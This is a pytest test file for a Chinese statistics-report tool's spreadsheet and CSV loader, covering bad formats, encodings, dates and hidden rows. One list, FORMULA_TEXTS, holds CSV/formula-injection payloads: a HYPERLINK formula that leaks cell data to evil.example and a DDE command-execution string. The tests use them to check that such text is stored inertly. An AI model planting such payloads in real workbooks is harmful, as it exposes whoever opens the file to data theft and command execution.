"""Hostile workbooks and cells: duplicate sheets, percent formats, footnote digits, formulas, sparse sheets."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from datagen import base_rows, write_csv_dataset, write_workbook
from nqp_report.data import load_dataset
from nqp_report.errors import DataError


def problems(path: Path) -> list[str]:
    with pytest.raises(DataError) as caught:
        load_dataset(path)
    return [str(p) for p in caught.value.problems]


@pytest.mark.parametrize("title", ["observations ", " observations", "Observations ", " OBSERVATIONS "])
def test_second_sheet_for_one_table_is_refused(tmp_path, title):
    def copy_sheet(book):
        extra = book.copy_worksheet(book["observations"])
        extra.title = title
        extra["D2"] = 9.99

    book = write_workbook(tmp_path / "d.xlsx", edit=copy_sheet)
    assert problems(book) == [
        f"d.xlsx：有 2 个工作表都对应“observations”表：“observations”、“{title}”（名称只差空格或大小写），"
        "无法确定用哪一个；请删去或改名多余的工作表"]


def test_sheet_with_spaces_alone_is_still_read(tmp_path):
    def rename(book):
        book["observations"].title = "Observations "

    assert len(load_dataset(write_workbook(tmp_path / "d.xlsx", edit=rename)).observations) == 5


def test_percent_format_on_a_non_percent_indicator_is_refused(tmp_path):
    def percent(book):
        sheet = book["observations"]
        sheet["D5"] = 12.0  # 甲市 firms (unit 家), shown as 1200%
        sheet["D5"].number_format = "0%"
        sheet["D2"] = 0.0294  # 甲市 rd (unit %), shown as 2.94%
        sheet["D2"].number_format = "0.00%"

    book = write_workbook(tmp_path / "d.xlsx", edit=percent)
    assert problems(book) == [
        "d.xlsx[observations]，第5行，“value”列：指标“firms”的单位是“家”，但数值带百分号（或 Excel 单元格是百分比格式），"
        "读作 1200% 会把数值放大 100 倍；请去掉百分号或把单元格改为“常规”格式后填写原数"]


def test_percent_format_on_a_percent_indicator_reads_as_shown(tmp_path):
    def percent(book):
        book["observations"]["D2"] = 0.0294
        book["observations"]["D2"].number_format = "0.00%"

    ds = load_dataset(write_workbook(tmp_path / "d.xlsx", edit=percent))
    first = ds.observations[0]
    assert (first.region, first.indicator, first.value, first.places) == ("甲市", "rd", 2.94, 2)


def test_percent_sign_in_a_csv_on_a_count_is_refused(tmp_path):
    rows = base_rows()
    rows["observations"][3][3] = "1200%"
    assert problems(write_csv_dataset(tmp_path / "d", rows)) == [
        "observations.csv，第5行，“value”列：指标“firms”的单位是“家”，但数值带百分号（或 Excel 单元格是百分比格式），"
        "读作 1200% 会把数值放大 100 倍；请去掉百分号或把单元格改为“常规”格式后填写原数"]


@pytest.mark.parametrize("value,mark", [("2.94¹", "“¹”(U+00B9)"), ("2.9²", "“²”(U+00B2)"), ("②.94", "“②”(U+2461)"),
                                        ("𝟐.94", "“𝟐”(U+1D7D0)"), ("٢.94", "“٢”(U+0662)")])
def test_footnote_digits_are_refused(tmp_path, value, mark):
    rows = base_rows()
    rows["observations"][0][3] = value
    assert problems(write_csv_dataset(tmp_path / "d", rows)) == [
        f"observations.csv，第2行，“value”列：“{value}”含上标、圈码或其他非常规数字 {mark}，可能是脚注符号，"
        "无法确定数值；请删去脚注符号（说明写在 note 列），数字用 0-9 填写"]


def test_full_width_digits_stay_accepted(tmp_path):
    rows = base_rows()
    rows["observations"][0][3] = "２.９４"
    rows["observations"][0][2] = "２０２３"
    first = load_dataset(write_csv_dataset(tmp_path / "d", rows)).observations[0]
    assert (first.year, first.value) == (2023, 2.94)


def test_footnote_digit_in_a_year_is_refused(tmp_path):
    rows = base_rows()
    rows["observations"][0][2] = "202³"
    assert problems(write_csv_dataset(tmp_path / "d", rows))[0].startswith(
        "observations.csv，第2行，“year”列：“202³”含上标")


FORMULA_TEXTS = ["=1+1", '=HYPERLINK("http://evil.example/?"&A1,"点击")', "=cmd|' /C calc'!A0", "+1", "-x", "@SUM(A1)"]


def test_init_writes_formula_like_text_as_text(tmp_path):
    from click.testing import CliRunner
    from openpyxl import load_workbook

    from nqp_report.cli import cli

    rows = base_rows()
    for i, text in enumerate(FORMULA_TEXTS[:5]):
        rows["observations"][i][6] = text
    rows["sources"][0][1] = FORMULA_TEXTS[1]
    data = write_csv_dataset(tmp_path / "d", rows)
    result = CliRunner().invoke(cli, ["init", str(tmp_path / "p"), "--from-data", str(data)])
    assert result.exit_code == 0, result.output
    book = load_workbook(tmp_path / "p" / "数据.xlsx")
    sheet = book["observations"]
    column = [c.value for c in sheet[1]].index("note") + 1
    notes = [sheet.cell(r, column) for r in range(2, 7)]
    assert [c.data_type for c in notes] == ["s"] * 5
    assert [c.value for c in notes] == FORMULA_TEXTS[:5]
    title = book["sources"].cell(2, [c.value for c in book["sources"][1]].index("title") + 1)
    assert (title.data_type, title.value) == ("s", FORMULA_TEXTS[1])
    again = load_dataset(tmp_path / "p" / "数据.xlsx")
    assert [o.note for o in again.observations] == FORMULA_TEXTS[:5]
    assert again.sources["A"].title == FORMULA_TEXTS[1]


def test_export_and_gaps_write_formula_like_text_as_text(tmp_path):
    from nqp_report.excel.sheets import workbook_bytes
    from openpyxl import Workbook, load_workbook

    book = Workbook()
    book.active.append(FORMULA_TEXTS)
    path = tmp_path / "x.xlsx"
    path.write_bytes(workbook_bytes(book))
    cells = list(load_workbook(path).active[1])
    assert [(c.data_type, c.value) for c in cells] == [("s", t) for t in FORMULA_TEXTS]


@pytest.mark.parametrize("where,value", [("XFD99000", None), ("ZZ99000", " "), ("A99999", " "), ("XFD1", "")])
def test_far_away_empty_cell_is_cheap(tmp_path, where, value):
    from openpyxl.styles import Font

    def far(book):
        cell = book["observations"][where]
        cell.value = value
        cell.font = Font(bold=True)

    book = write_workbook(tmp_path / "d.xlsx", edit=far)
    start = time.perf_counter()
    ds = load_dataset(book)
    assert time.perf_counter() - start < 5
    assert len(ds.observations) == 5


def test_value_beyond_the_header_columns_is_still_reported(tmp_path):
    def beyond(book):
        book["observations"]["K3"] = "多余"

    assert problems(write_workbook(tmp_path / "d.xlsx", edit=beyond)) == [
        "d.xlsx[observations]，第3行：该行有 11 个单元格，多于表头的 8 列"]


@pytest.mark.parametrize("text", ["千瓦·时", "——", "〇", "㎡、㎞", "–", "•", "®", "€", "﹪", "喆堃镕昇", "A股B股", "R&D经费",
                                  "LNG接收站", "iPhone手机"])
def test_gbk_text_with_ordinary_punctuation_is_accepted(text):
    from nqp_report.data.encoding import decode_csv_bytes

    data = f"name,note\n甲市,{text}\n".encode("gb18030")
    assert decode_csv_bytes(data) == (f"name,note\n甲市,{text}\n", "gb18030")


@pytest.mark.parametrize("text,shown", [("Publications Créées", "殚"), ("Zürich", "黵"), ("CRÉÉES", "缮"),
                                        ("Mañana", "Mañana".encode("cp1252")[2:4].decode("gb18030"))])
def test_windows_1252_mojibake_is_refused(text, shown):
    from nqp_report.data.encoding import EncodingProblem, decode_csv_bytes

    with pytest.raises(EncodingProblem) as caught:
        decode_csv_bytes(f"id,publisher\nS1,{text}\n".encode("cp1252"))
    assert caught.value.line == 2
    assert f"按 GBK 读第2行出现“{shown}”" in str(caught.value)


def test_bundled_dataset_saved_as_gbk_loads_the_same(tmp_path):
    from nqp_report.resources import bundled_data_dir

    source = bundled_data_dir()
    for path in sorted(source.glob("*.csv")):
        (tmp_path / path.name).write_bytes(path.read_text(encoding="utf-8-sig").encode("gb18030"))
    as_gbk, as_utf8 = load_dataset(tmp_path), load_dataset(source)
    assert as_gbk.observations == as_utf8.observations
    assert as_gbk.practices == as_utf8.practices and as_gbk.sources == as_utf8.sources


@pytest.mark.parametrize("table,index,column,value,expected", [
    ("regions", 0, 1, "", "regions.csv，第2行，“level”列：必填单元格为空"),
    ("indicators", 0, 6, "7", "indicators.csv，第2行，“decimals”列："),
    ("sources", 0, 4, "45352", "sources.csv，第2行，“date”列："),
])
def test_one_bad_row_gives_one_problem(tmp_path, table, index, column, value, expected):
    rows = base_rows()
    rows[table][index][column] = value
    found = problems(write_csv_dataset(tmp_path / "d", rows))
    assert len(found) == 1 and found[0].startswith(expected), found


def test_reference_to_a_missing_region_is_still_reported(tmp_path):
    rows = base_rows()
    rows["regions"][0][1] = ""
    rows["observations"][1][0] = "丁市"
    assert problems(write_csv_dataset(tmp_path / "d", rows)) == [
        "regions.csv，第2行，“level”列：必填单元格为空", "observations.csv，第3行，“region”列：地区“丁市”不存在"]


@pytest.mark.parametrize("number, value, places", [(4e-11, 4e-11, 11), (0.0000123456789, 0.0000123456789, 13),
                                                   (2.9400000000000004, 2.94, 2)])
def test_tiny_workbook_number_keeps_its_digits(tmp_path, number, value, places):
    def tiny(book):
        book["observations"]["D2"] = number

    first = load_dataset(write_workbook(tmp_path / "d.xlsx", edit=tiny)).observations[0]
    assert (first.region, first.value, first.places) == ("甲市", value, places)


@pytest.mark.parametrize("fmt", ["h:mm", "hh:mm:ss", "mm:ss", "h:mm AM/PM"])
def test_time_format_where_a_date_is_expected_is_refused(tmp_path, fmt):
    import datetime as dt

    def timed(book):
        book["sources"]["E2"] = dt.datetime(2024, 3, 1)
        book["sources"]["E2"].number_format = fmt

    assert problems(write_workbook(tmp_path / "d.xlsx", edit=timed)) == [
        f"d.xlsx[sources]，第2行，“date”列：单元格 E2：单元格是时间格式（{fmt}），不是日期；"
        "请填写日期（如 2024-03-01）或年份，或把单元格改为日期格式"]


def test_time_and_duration_values_are_refused(tmp_path):
    import datetime as dt

    def timed(book):
        book["sources"]["E2"] = dt.time(12, 30)
        book["sources"]["E2"].number_format = "h:mm"
        book["observations"]["D3"] = dt.timedelta(days=45352)
        book["observations"]["D3"].number_format = "[h]:mm"

    assert sorted(problems(write_workbook(tmp_path / "d.xlsx", edit=timed))) == [
        "d.xlsx[observations]，第3行，“value”列：单元格 D3：单元格是时间或时长（格式 [h]:mm），不是日期或数值；"
        "请填写日期（如 2024-03-01）或数值",
        "d.xlsx[sources]，第2行，“date”列：单元格 E2：单元格是时间或时长（格式 h:mm），不是日期或数值；"
        "请填写日期（如 2024-03-01）或数值"]


@pytest.mark.parametrize("fmt, expected", [("yyyy-mm-dd h:mm", "2025-03-01"), ("m/d/yy h:mm", "2025-03-01"),
                                           ('yyyy"年"m"月" h:mm', "2025-03")])
def test_date_with_a_time_keeps_the_date(tmp_path, fmt, expected):
    import datetime as dt

    def timed(book):
        book["sources"]["E3"] = dt.datetime(2025, 3, 1, 9, 15)
        book["sources"]["E3"].number_format = fmt

    assert load_dataset(write_workbook(tmp_path / "d.xlsx", edit=timed)).sources["B"].date == expected


def test_hidden_and_filtered_rows_are_read_with_a_note(tmp_path):
    from click.testing import CliRunner

    from nqp_report.cli import cli

    def hide(book):
        book["observations"].row_dimensions[3].hidden = True
        book["observations"].auto_filter.ref = "A1:H6"
        book["observations"].row_dimensions[5].hidden = True
        book["sources"].row_dimensions[9].hidden = True  # an empty row: nothing to say

    path = write_workbook(tmp_path / "d.xlsx", edit=hide)
    note = ("提示：d.xlsx[observations]：第3、5行（共 2 行）在工作簿中是隐藏的（手动隐藏或被筛选隐藏），"
            "仍照常读入；如要排除这些行，请删除它们")
    dataset = load_dataset(path)
    assert len(dataset.observations) == 5 and dataset.notes == [note.removeprefix("提示：")]
    checked = CliRunner().invoke(cli, ["validate", "--data", str(path)])
    assert checked.exit_code == 0 and checked.output.splitlines()[0] == note
    built = CliRunner().invoke(cli, ["build", "--data", str(path), "--target", "甲市", "--date", "2026-01-01",
                                     "--format", "docx", "--out", str(tmp_path / "out")])
    assert built.exit_code == 0, built.output
    assert built.output.splitlines()[0] == note
    plain = CliRunner().invoke(cli, ["validate", "--data", str(write_workbook(tmp_path / "e.xlsx"))])
    assert plain.exit_code == 0 and "提示" not in plain.output


def test_actual_value_from_after_its_source_is_refused_but_a_target_is_not(tmp_path):
    from datagen import HEADERS

    rows = base_rows()
    rows["observations"] = [r + ["实际值"] for r in rows["observations"]]
    rows["observations"][1][2] = "2099"   # 乙市 rd, source A dated 2024-03
    rows["observations"][2][2] = "2024"   # 丙市 rd, the source's own year: possible
    rows["observations"].append(["甲市", "rd", "2035", "5.00", "", "A", "", "", "目标值"])
    headers = {"observations": HEADERS["observations"] + ["kind"]}
    assert problems(write_csv_dataset(tmp_path / "d", rows, headers)) == [
        "observations.csv，第3行，“year”列：年份 2099 晚于来源“A”的发布年份 2024：统计数值不可能来自来源发布之后的年份；"
        "请核对年份或来源日期，规划目标请在 kind 列写“目标值”"]
    rows["observations"][1][2] = "2023"
    dataset = load_dataset(write_csv_dataset(tmp_path / "e", rows, headers))
    assert [(o.year, o.is_target) for o in dataset.observations] == [
        (2023, False), (2023, False), (2024, False), (2023, False), (2023, False), (2035, True)]
